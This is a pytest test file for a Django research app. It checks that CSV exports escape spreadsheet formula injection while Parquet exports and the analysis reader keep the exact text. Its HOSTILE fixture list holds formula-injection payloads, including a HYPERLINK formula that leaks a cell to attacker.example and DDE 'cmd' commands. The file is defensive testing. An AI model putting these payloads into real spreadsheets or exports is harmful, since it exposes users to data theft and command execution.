"""CSV formula injection (issue 21, item 8): a stimulus beginning `=HYPERLINK(` came out verbatim
in the CSV exports. Every text cell a spreadsheet would run is marked in every CSV export (the
panel's download and `manage.py export_study`); Parquet stays exact; `python -m analysis` reads
the CSV back exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from django.core.management import call_command
from django.urls import reverse

from analysis.cli import read_table
from studyapp.rating.models import Participant
from studyapp.studies.models import Item, Stimulus
from tests.factories import researcher_of, study_with_ratings

pytestmark = pytest.mark.django_db
HOSTILE = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already marked by hand",
]


@pytest.fixture
def hostile_study():
    study = study_with_ratings(n_deployments=1, raters_per_deployment=2)
    stimuli = list(Stimulus.objects.filter(deployment__study=study).order_by("pk"))
    for stimulus, text in zip(stimuli, HOSTILE, strict=False):
        Stimulus.objects.filter(pk=stimulus.pk).update(text=text)
    Item.objects.filter(task__study=study).update(text="=1+1 (an item)")
    Participant.objects.filter(study=study).update(flags=["-speeding"])
    return study


def _text_cells(raw: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8"), newline="")) for cell in row]


def _assert_no_cell_runs(raw: bytes) -> None:
    cells = _text_cells(raw)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("-2+")]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert "''=already marked by hand" in cells  # one more mark, removed again on reading


def test_the_panels_csv_download_marks_formula_cells_and_parquet_stays_exact(client, hostile_study) -> None:
    client.force_login(researcher_of(hostile_study))
    for table in ("stimuli", "ratings"):
        raw = client.get(reverse("studies:export", args=[hostile_study.slug, table, "csv"])).content
        exact = pd.read_parquet(
            io.BytesIO(client.get(reverse("studies:export", args=[hostile_study.slug, table, "parquet"])).content)
        )
        if table == "stimuli":
            _assert_no_cell_runs(raw)
            assert set(HOSTILE) <= set(exact["text"])  # Parquet: the texts as generated
        assert "'-speeding" in _text_cells(raw) or table == "stimuli"
        assert "'=1+1 (an item)" in _text_cells(raw) or table == "ratings"


def test_export_study_writes_marked_csv_that_analysis_reads_back_exactly(hostile_study, tmp_path: Path) -> None:
    call_command("export_study", hostile_study.slug, "--out", str(tmp_path))
    for table in ("stimuli", "ratings"):
        csv_path = tmp_path / f"{hostile_study.slug}-{table}.csv"
        if table == "stimuli":
            _assert_no_cell_runs(csv_path.read_bytes())
        from_csv = read_table(csv_path)
        from_parquet = read_table(tmp_path / f"{hostile_study.slug}-{table}.parquet")
        # Opaque tokens may begin with "-" too: marked in the CSV, and joined exactly after reading.
        text_columns = {"stimuli": ["stimulus", "text", "item_text"], "ratings": ["rater", "stimulus", "rater_flags"]}
        for column in text_columns[table]:
            assert from_csv[column].fillna("").tolist() == from_parquet[column].fillna("").tolist(), column
